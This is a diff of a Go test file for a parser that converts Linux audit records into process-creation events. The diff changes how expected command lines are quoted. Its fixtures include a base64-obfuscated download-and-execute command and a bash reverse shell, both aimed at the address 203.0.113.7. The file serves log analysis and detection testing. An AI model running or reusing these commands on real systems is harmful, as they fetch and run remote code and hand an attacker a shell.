@@ -54,9 +54,8 @@ func TestShapes(t *testing.T) {
 		sh.Time.UnixMilli() != 1765100000101 || sh.Locator != "line 1" || sh.Format != "audit" {
 		t.Errorf("event %+v", sh)
 	}
-	// a2 is hex-encoded (it holds spaces and a pipe): decoded, and quoted as a shell
-	// would need it, so the line splits back into the same argv.
-	wantCmd := "sh -c 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoCg== | base64 -d | sh'"
+	// a2 is hex-encoded (it holds spaces and a pipe): decoded, joined with spaces.
+	wantCmd := "sh -c echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoCg== | base64 -d | sh"
 	if p.PID != 4242 || p.ParentPID != 4100 || p.Image != "/usr/bin/dash" || p.Cmdline != wantCmd ||
 		p.CurrentDirectory != "/home/alice" || p.User != "1000" || p.LoginUser != "1000" || p.LogonID != "0x3e8" ||
 		p.TTY != "pts1" || p.TerminalSessionID != "7" || p.RuleName != "exec" || p.Failed {
@@ -65,7 +64,7 @@ func TestShapes(t *testing.T) {
 	// a2 was split into a2[0] and a2[1] over two EXECVE records; the CWD is hex.
 	py := evs[1].ProcessCreation
 	wantScript := "import os;" + strings.Repeat("x=1;", 30) + `os.system("id")`
-	if py.Cmdline != "python3 -c '"+wantScript+"'" || py.CurrentDirectory != "/home/alice/my docs" || py.ParentPID != 4242 {
+	if py.Cmdline != "python3 -c "+wantScript || py.CurrentDirectory != "/home/alice/my docs" || py.ParentPID != 4242 {
 		t.Errorf("python3: cmdline %q cwd %q", py.Cmdline, py.CurrentDirectory)
 	}
 	// 16 records: 12 of the two execs, 4 of a login and a connect().
@@ -81,7 +80,7 @@ func TestInterleavedEvents(t *testing.T) {
 	}
 	// 7002 completes first (its PROCTITLE comes first).
 	sh, cron := evs[0].ProcessCreation, evs[1].ProcessCreation
-	if evs[0].EventRecordID != 7002 || sh.Cmdline != "/bin/sh -c 'cd / && run-parts --report /etc/cron.hourly'" ||
+	if evs[0].EventRecordID != 7002 || sh.Cmdline != "/bin/sh -c cd / && run-parts --report /etc/cron.hourly" ||
 		sh.CurrentDirectory != "/root" || sh.PID != 301 || sh.User != "root" || sh.LoginUser != "root" || sh.TTY != "" {
 		t.Errorf("sh: %+v", sh)
 	}
@@ -142,7 +141,7 @@ func TestAusearchEnrichedAndDamaged(t *testing.T) {
 	}
 	rev := evs[0]
 	p := rev.ProcessCreation
-	if rev.Computer != "web01" || p.User != "www-data" || p.LoginUser != "" || p.Cmdline != "bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'" ||
+	if rev.Computer != "web01" || p.User != "www-data" || p.LoginUser != "" || p.Cmdline != "bash -c bash -i >& /dev/tcp/203.0.113.7/443 0>&1" ||
 		p.CurrentDirectory != "/var/www/html" {
 		t.Errorf("reverse shell: computer %q %+v", rev.Computer, p)
 	}
